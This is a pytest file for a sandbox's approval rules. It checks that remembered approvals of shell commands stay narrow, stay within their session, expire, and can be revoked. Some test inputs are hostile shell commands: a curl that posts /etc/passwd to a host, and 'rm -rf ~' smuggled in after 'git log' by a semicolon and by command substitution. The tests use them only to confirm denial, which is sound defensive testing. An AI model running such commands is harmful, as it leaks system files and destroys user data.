"""Remembered decisions: narrow, per parsed command, scoped, expiring, visible, revocable."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest

from sandbox import ApprovalStore, CallbackConfirmationProvider, Decision, FunctionTool, ToolRunner
from sandbox.approval.models import Remember, RulePattern
from sandbox.approval.rules import RuleBook
from sandbox.bash.policy.evaluate import BashToolPolicy
from sandbox.errors import RuleError

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(20)]

#: `make_store` (conftest) runs a test on each backend: memory, SQLite in memory, a file.
MakeStore = Callable[..., ApprovalStore]


class ShellTool(FunctionTool):
    def rule_subjects(self, args: dict[str, Any]) -> tuple[tuple[str, ...], ...] | None:
        return BashToolPolicy().check(args["command"]).commands

    async def precheck(self, args: dict[str, Any]) -> dict[str, Any] | None:
        if "shutdown" in args["command"]:
            return {"error": "shutdown is blocked by policy"}
        return None


class Human:
    """A provider whose answers are scripted; it records every question it was asked."""

    def __init__(self, *answers: Decision) -> None:
        self.answers = list(answers)
        self.asked: list[str] = []

    def __call__(self, request: Any) -> Decision:
        self.asked.append(request.args.get("command", json.dumps(request.args)))
        return self.answers.pop(0) if self.answers else Decision.deny("not scripted")


def make_runner(make_store: MakeStore, human: Human, *, session: str | None = "s1",
                store: ApprovalStore | None = None) -> tuple[ToolRunner, list[str]]:
    ran: list[str] = []

    def shell(command: str) -> dict[str, Any]:
        ran.append(command)
        return {"ran": command}

    def wipe(database: str) -> dict[str, Any]:
        ran.append(f"wipe {database}")
        return {"wiped": database}

    runner = ToolRunner(
        [ShellTool(shell, require_confirmation=True),
         FunctionTool(wipe, require_confirmation=True)],
        provider=CallbackConfirmationProvider(human, name="human"),
        store=store or make_store(), session_id=session,
    )
    return runner, ran


def always(*patterns: RulePattern, **kw: Any) -> Decision:
    remember = Remember(patterns=patterns or None, **kw) if patterns or kw else None
    return Decision.approve(scope="always", remember=remember, decided_by="alice")


async def test_a_rule_approves_the_same_command_again_without_asking(make_store: MakeStore) -> None:
    human = Human(always())
    runner, _ran = make_runner(make_store, human)
    await runner.call("shell", {"command": "curl https://a.example"})
    result = await runner.call("shell", {"command": "curl https://a.example"}, call_id="c2")
    assert result == {"ran": "curl https://a.example"}
    assert human.asked == ["curl https://a.example"]
    (rule,) = runner.rules.rules()
    rec = runner.store.get_call("c2")
    decision = runner.store.request_decision(rec.request_id or "")
    assert decision is not None
    assert (decision["decided_by"], decision["channel"]) == (rule.id, "rule")
    assert rule.uses == 1 and rule.created_by == "alice"


async def test_approving_a_command_never_approves_a_broader_one(make_store: MakeStore) -> None:
    human = Human(always())
    runner, ran = make_runner(make_store, human)
    await runner.call("shell", {"command": "curl https://a.example"})
    for other in ("curl https://b.example", "curl https://a.example -d @/etc/passwd", "curl"):
        result = await runner.call("shell", {"command": other})
        assert result["status"] == "denied"
    assert ran == ["curl https://a.example"]
    assert len(human.asked) == 4


async def test_a_compound_command_needs_every_part_covered(make_store: MakeStore) -> None:
    human = Human(always(RulePattern(words=("git", "log"), prefix=True)))
    runner, ran = make_runner(make_store, human)
    await runner.call("shell", {"command": "git log -1"})
    assert (await runner.call("shell", {"command": "git log -p | cat"}))["status"] == "denied"
    assert (await runner.call("shell", {"command": "git log; rm -rf ~"}))["status"] == "denied"
    assert (await runner.call("shell", {"command": "git log $(rm -rf ~)"}))["status"] == "denied"
    assert await runner.call("shell", {"command": "git log --stat && git log -2"}) == {
        "ran": "git log --stat && git log -2"}
    assert ran == ["git log -1", "git log --stat && git log -2"]


async def test_a_prefix_rule_is_only_made_when_chosen(make_store: MakeStore) -> None:
    human = Human(always(RulePattern(words=("make",), prefix=True)))
    runner, _ran = make_runner(make_store, human)
    await runner.call("shell", {"command": "make test"})
    assert await runner.call("shell", {"command": "make install"}) == {"ran": "make install"}
    (rule,) = runner.rules.rules()
    assert rule.words == ("make",) and rule.prefix
    assert "any further words" in rule.describe()


async def test_a_rule_that_does_not_fit_the_call_is_not_saved(make_store: MakeStore) -> None:
    human = Human(always(RulePattern(words=("rm",), prefix=True)))  # not what was asked
    runner, _ran = make_runner(make_store, human)
    result = await runner.call("shell", {"command": "ls"})
    assert result == {"ran": "ls"}  # the approval itself stands, once
    assert runner.rules.rules() == []


async def test_a_rule_never_lets_a_blocked_command_through(make_store: MakeStore) -> None:
    store = make_store()
    RuleBook(store).add(tool="shell", kind="command", words=("shutdown",), prefix=True,
                        scope="always", ttl=60)
    runner, ran = make_runner(make_store, Human(), store=store)
    result = await runner.call("shell", {"command": "shutdown now"})
    assert result["status"] == "blocked"
    assert ran == []


async def test_session_rules_stay_in_their_session(make_store: MakeStore) -> None:
    store = make_store()
    first, _ = make_runner(make_store, Human(Decision.approve(scope="session")), store=store)
    await first.call("shell", {"command": "make test"})
    other_human = Human()
    other, _ran = make_runner(make_store, other_human, session="s2", store=store)
    assert (await other.call("shell", {"command": "make test"}))["status"] == "denied"
    same, _ran_same = make_runner(make_store, Human(), session="s1", store=store)
    assert await same.call("shell", {"command": "make test"}) == {"ran": "make test"}
    # A runner without a session id is a session of its own.
    anonymous, _ = make_runner(make_store, Human(), session=None, store=store)
    assert (await anonymous.call("shell", {"command": "make test"}))["status"] == "denied"


async def test_revoked_and_expired_rules_stop_matching(tmp_path: Path) -> None:
    human = Human(always(), always(ttl=0.3))
    runner, _ran = make_runner(lambda: ApprovalStore(tmp_path / "approvals.db"), human)
    await runner.call("shell", {"command": "make a"})
    await runner.call("shell", {"command": "make b"})
    rule_a = next(r for r in runner.rules.rules() if r.words == ("make", "a"))
    # Revoked from another connection to the file (as `sandbox approvals rules revoke` does).
    with ApprovalStore(tmp_path / "approvals.db") as elsewhere:
        RuleBook(elsewhere).revoke(rule_a.id, by="bob")
    await anyio.sleep(0.4)
    assert (await runner.call("shell", {"command": "make a"}))["status"] == "denied"
    assert (await runner.call("shell", {"command": "make b"}))["status"] == "denied"
    states = {r.words: r.state for r in runner.rules.rules(include_inactive=True)}
    assert states == {("make", "a"): "revoked", ("make", "b"): "expired"}
    assert runner.rules.get(rule_a.id).revoked_by == "bob"


async def test_generic_tools_match_exact_arguments_or_the_whole_tool_when_chosen(
        make_store: MakeStore) -> None:
    human = Human(always())
    runner, _ran = make_runner(make_store, human)
    await runner.call("wipe", {"database": "scratch"})
    assert await runner.call("wipe", {"database": "scratch"}) == {"wiped": "scratch"}
    assert (await runner.call("wipe", {"database": "orders"}))["status"] == "denied"
    human.answers.append(always(tool_wide=True))
    await runner.call("wipe", {"database": "logs"})
    assert await runner.call("wipe", {"database": "anything"}) == {"wiped": "anything"}
    kinds = sorted(r.kind for r in runner.rules.rules())
    assert kinds == ["args", "tool"]


async def test_a_command_tool_cannot_get_a_tool_wide_rule(make_store: MakeStore) -> None:
    runner, _ = make_runner(make_store, Human(always(tool_wide=True)))
    assert await runner.call("shell", {"command": "ls"}) == {"ran": "ls"}
    assert runner.rules.rules() == []


def test_rule_patterns_must_be_prefixes_of_the_asked_commands() -> None:
    from sandbox.approval.rules import check_patterns

    subjects = [["curl", "https://a"], ["ls"]]
    with pytest.raises(RuleError, match="not a prefix"):
        check_patterns([RulePattern(words=("wget",), prefix=True),
                        RulePattern(words=("ls",))], subjects)
    with pytest.raises(RuleError, match="not covered"):
        check_patterns([RulePattern(words=("ls",))], subjects)
    with pytest.raises(RuleError, match="prefix=True"):
        check_patterns([RulePattern(words=("curl",)), RulePattern(words=("ls",))], subjects)
    with pytest.raises(RuleError, match="no parsed commands"):
        check_patterns([], [])


async def test_a_command_that_cannot_be_parsed_is_never_approved_by_a_rule(
        make_store: MakeStore) -> None:
    store = make_store()
    book = RuleBook(store)
    book.add(tool="shell", kind="command", words=("echo",), prefix=True, scope="always", ttl=60)
    assert book.match("shell", {}, subjects=(), session_id=None) is None
    assert book.match("shell", {}, subjects=(("echo", "x"),), session_id=None) is not None


async def test_execute_bash_tool_rules_match_its_parsed_commands(
        tmp_path: Path, make_store: MakeStore) -> None:
    from sandbox import ExecuteBashTool

    workspace = tmp_path / "w"
    workspace.mkdir()
    human = Human(always(RulePattern(words=("echo",), prefix=True)))
    runner = ToolRunner([ExecuteBashTool(workspace=workspace)],
                        provider=CallbackConfirmationProvider(human, name="human"),
                        store=make_store(), session_id="s1")
    first = await runner.call("execute_bash", {"command": "echo one"})
    assert first["stdout"] == "one\n"
    second = await runner.call("execute_bash", {"command": "echo two && echo three"})
    assert second["stdout"] == "two\nthree\n"
    assert human.asked == ["echo one"]  # the second call was approved by the rule
    third = await runner.call("execute_bash", {"command": "echo four; touch made"})
    assert third["status"] == "denied"  # `touch made` is not covered: the human was asked
    assert not (workspace / "made").exists()
    assert human.asked == ["echo one", "echo four; touch made"]
